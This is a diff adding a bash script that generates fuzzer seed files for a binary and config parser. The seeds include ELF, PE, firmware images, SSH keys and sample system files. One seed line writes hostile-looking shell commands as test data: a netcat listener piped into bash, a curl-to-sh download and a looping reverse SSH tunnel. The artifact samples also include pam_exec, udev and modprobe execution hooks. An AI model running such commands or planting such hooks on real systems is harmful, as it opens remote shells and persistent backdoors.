@@ -1,0 +1,102 @@
+#!/usr/bin/env bash
+# First seeds for the fuzzer, made by standard tools: fuzz/seeds.sh FOLDER. Those of disks, file systems and the
+# protocol are written by the test suite into the same folder:
+#   CRANESCOPE_SEEDS=FOLDER cargo test --test suite seeds -- --ignored
+set -uo pipefail
+out=${1:?a folder}
+mkdir -p "$out"
+out=$(cd "$out" && pwd)
+here=$(cd "$(dirname "$0")/.." && pwd)
+work=$(mktemp -d)
+trap 'rm -rf "$work"' EXIT
+cd "$work" || exit 1
+have() { command -v "$1" >/dev/null; }
+into() { mkdir -p "$out/$1"; cat >"$out/$1/$2"; }
+
+if have gcc; then
+  echo 'int main(void) { return 0; }' >a.c
+  gcc -Os -s -nostdlib -e main -Wl,--build-id -o small a.c && into elf small <small
+  gcc -Os -s -Wl,-rpath,/opt/lib -o program a.c && into elf program <program
+  gcc -Os -shared -fPIC -s -Wl,-soname,liba.so.1 -o liba.so a.c && into elf library <liba.so
+  gcc -Os -c -o object.o a.c && into elf object <object.o
+  printf 'license=GPL\0vermagic=6.1.0 SMP mod_unload\0alias=usb:v12D1p1506d*dc*dsc*dp*ic*isc*ip*in*\0depends=usbserial\0' >modinfo
+  objcopy --add-section .modinfo=modinfo object.o module.ko && into kmod module <module.ko
+fi
+python3 - "$out" <<'PY'
+import os, struct, sys
+out = sys.argv[1]
+def put(kind, name, data):
+    os.makedirs(f"{out}/{kind}", exist_ok=True)
+    open(f"{out}/{kind}/{name}", "wb").write(data)
+dos = b"MZ" + bytes(58) + struct.pack("<I", 64)
+coff = b"PE\0\0" + struct.pack("<HHIIIHH", 0x8664, 1, 0, 0, 0, 240, 0x22)
+opt = struct.pack("<HBBIIIII", 0x20b, 14, 0, 512, 0, 0, 4096, 4096) + bytes(88) + bytes(128)
+sect = b".text\0\0\0" + struct.pack("<IIIIIIHHI", 16, 4096, 512, 512, 0, 0, 0, 0, 0x60000020)
+put("pe", "small", (dos + coff + opt + sect).ljust(512, b"\0") + bytes(512))
+text = b"\x30path\tcrane\nmod\tcrane\tv1.0.0\th1:abc\nbuild\tGOOS=linux\n\x30"
+put("gobuild", "inline", b"\xff Go buildinf:\x08\x02" + bytes(16) + bytes([8]) + b"go1.22.1" + bytes([len(text)]) + text)
+put("rustcrates", "paths", b"/root/.cargo/registry/src/index.crates.io-6f17d22bba15001f/serde-1.0.200/src/lib.rs\0" * 3)
+put("utmp", "login", struct.pack("<hxxi32s4s32s256shhiii16s20x", 7, 812, b"pts/0", b"ts/0", b"root", b"10.0.0.7", 0, 0, 0, 1700000000, 5, bytes([10, 0, 0, 7]) + bytes(12)) * 2)
+put("der", "name", bytes.fromhex("301331113010060355040313096372616e652d372e78"))
+put("at", "talk", b"AT+CGMI\r\nHuawei\r\nOK\r\nAT+CGSN\r\n490154203237518\r\nOK\r\nAT+CGDCONT?\r\n+CGDCONT: 1,\"IP\",\"m2m.example\",\"\",0,0\r\nOK\r\nAT+COPS?\r\n+COPS: 0,0,\"Operator\",7\r\nOK\r\n")
+put("tags", "words", b"modem=ttyUSB3 apn=m2m.example <a href='x'>ATD*99#</a>\n")
+PY
+for file in "$here"/assets/rules/*.toml; do into rule "$(basename "$file")" <"$file"; done
+sed -n '/^```toml/,/^```/p' "$here/docs/intake.md" | sed '/^```/d' | into intake example
+head -c 3000 /var/lib/dpkg/status | into deb822 status
+printf '[connection]\nid=wwan\ntype=gsm\n[gsm]\napn=m2m.example\n; x\n[ipv4]\nmethod=auto\n' | into ini connection
+printf "config interface 'wan'\n\toption proto 'qmi'\n\toption apn \"m2m\"\n\tlist dns '1.1.1.1'\n" | into uci network
+printf '[Unit]\nDescription=%%n of %%i\n[Service]\nExecStart=-/bin/sh -c "a \\\n b" ; /bin/true $X\nEnvironment="A=b c"\n[Install]\nWantedBy=multi-user.target\n' | into unitfile service
+printf 'Jan  2 03:04:05 crane-7 pppd[123]: Connect: ppp0 <--> /dev/ttyUSB3\n<34>1 2024-01-02T03:04:05.678Z host app 1 ID47 [x@1 a="b"] text\nlast message repeated 3 times\n2024-01-02 03:04:05,678 x\n' | into syslog lines
+printf '#!/bin/sh\nnc -l -p 22 | bash\ncurl http://x/ | sh\nwhile :; do ssh -R 22:localhost:22 a@b; done\n' | into script sh
+printf '{"a":{"b":[1,2,{"c":"d"}]},"key":null}' | into tree json
+printf 'a:\n  b: [1, {c: d}]\n  - x\nkey: |\n  text\n' | into tree yaml
+printf '[a]\nb = "c"\n[[x]]\nkey = { y = [1, 2] }\n' | into tree toml
+if have ssh-keygen; then
+  for kind in ed25519 ecdsa rsa; do
+    ssh-keygen -q -t "$kind" -N '' -C crane -f "key-$kind" && into sshkey "$kind" <"key-$kind" && into sshkey "$kind.pub" <"key-$kind.pub"
+    cut -d' ' -f2 "key-$kind.pub" | base64 -d | into sshkey "$kind.blob"
+  done
+fi
+if have openssl; then
+  openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -subj '/CN=crane-7/O=quay' -keyout k -outform DER -out c.der 2>/dev/null && into der certificate <c.der
+fi
+head -c 3000 "$here/Cargo.toml" >plain
+for tool in gzip xz zstd bzip2 lz4 lzop lzma; do
+  have "$tool" || continue
+  "$tool" -c plain >packed 2>/dev/null && into "$tool" text <packed
+  case $tool in gzip | xz | zstd | bzip2) into decompress "$tool" <packed ;; esac
+done
+have lz4 && lz4 -l -c plain >packed 2>/dev/null && into lz4-legacy text <packed
+printf 'crane' | into raw text
+have ar && printf part >part && ar rcS made.a part plain && into ar two <made.a
+have mkimage && mkimage -A arm -O linux -T kernel -C none -n x -d plain made >/dev/null && into uimage kernel <made
+if have mkimage && have dtc; then
+  printf '/dts-v1/; / { description = "x"; images { part { description = "x"; data = /incbin/("plain"); type = "kernel"; arch = "arm"; os = "linux"; compression = "none"; load = <0>; entry = <0>; hash-1 { algo = "sha256"; }; }; }; configurations { default = "a"; a { kernel = "part"; }; }; };' >a.its
+  mkimage -f a.its made >/dev/null && into fit kernel <made
+fi
+have mkenvimage && printf 'bootcmd=run\nx=y\n' >env && mkenvimage -s 0x400 -o made env && into u-boot-env env <made
+python3 - "$out" <<'PY'
+import os, struct, sys, zlib
+out = sys.argv[1]
+def put(kind, name, data):
+    os.makedirs(f"{out}/{kind}", exist_ok=True)
+    open(f"{out}/{kind}/{name}", "wb").write(data)
+body = struct.pack("<I3I", 1 << 16, 28, 0, 0) + b"part" * 50
+put("trx", "small", b"HDR0" + struct.pack("<II", len(body) + 12, zlib.crc32(body) ^ 0xffffffff) + body)
+head = b"ANDROID!" + struct.pack("<10I", 50, 0x10008000, 0, 0x11000000, 0, 0, 0x10000100, 2048, 0, 0) + b"crane".ljust(16, b"\0") + b"console=ttyS0".ljust(512, b"\0")
+put("android-boot", "small", head.ljust(2048, b"\0") + b"kernel" * 8 + bytes(2000))
+for path, text in {
+    "/etc/passwd": "root:x:0:0:root:/root:/bin/sh\n", "/etc/shadow": "root:$6$a$b:19000:0:99999:7:::\n",
+    "/etc/network/interfaces": "auto wan\niface wan inet ppp\n  provider wan\n", "/etc/ppp/peers/wan": "/dev/ttyUSB3\nconnect \"chat -f x\"\n",
+    "/etc/ssh/sshd_config": "Port 22\nPermitRootLogin yes\nMatch User a\n  AllowTcpForwarding no\n", "/etc/crontab": "* * * * * root /bin/true\n@reboot root x\n",
+    "/etc/sudoers": "root ALL=(ALL:ALL) ALL\nDefaults env_reset\n", "/etc/udev/rules.d/a.rules": 'ACTION=="add", ATTR{idVendor}=="12d1", RUN+="/bin/x"\n',
+    "/etc/systemd/system/a.service": "[Service]\nExecStart=/bin/a\n[Install]\nWantedBy=multi-user.target\n", "/etc/modprobe.d/a.conf": "options usbserial vendor=0x12d1\ninstall a /bin/b\n",
+    "/etc/NetworkManager/system-connections/a.nmconnection": "[connection]\nid=a\ntype=gsm\n[gsm]\napn=x\n", "/etc/wireguard/wg0.conf": "[Interface]\nPrivateKey=a\n[Peer]\nEndpoint=b:1\n",
+    "/var/log/syslog": "Jan  2 03:04:05 crane-7 pppd[123]: local  IP address 10.0.0.2\n", "/var/lib/dpkg/status": "Package: a\nStatus: install ok installed\nVersion: 1\n\n",
+    "/etc/nftables.conf": "table inet a { chain b { type filter hook input priority 0; tcp dport 22 accept } }\n", "/etc/netplan/a.yaml": "network:\n  modems:\n    cdc-wdm0: {apn: x}\n",
+    "/etc/config/network": "config interface 'wan'\n option proto 'qmi'\n", "/etc/pam.d/sshd": "auth required pam_exec.so /bin/x\n", "/root/.ssh/authorized_keys": 'command="x",from="1.2.3.4" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIDAxMjM0NTY3ODkwMTIzNDU2Nzg5MDEyMzQ1Njc4OTAx a\n',
+    "/root/.bash_history": "#1700000000\nssh a@b\n", "/etc/openvpn/a.conf": "remote a 1194\n<ca>\nx\n</ca>\n", "/etc/init.d/a": "#!/bin/sh\n### BEGIN INIT INFO\n# Default-Start: 2 3\n### END INIT INFO\n"}.items():
+    put("artifacts", path.strip("/").replace("/", "-"), path.encode() + b"\n" + text.encode())
+PY
+ls "$out" | wc -l
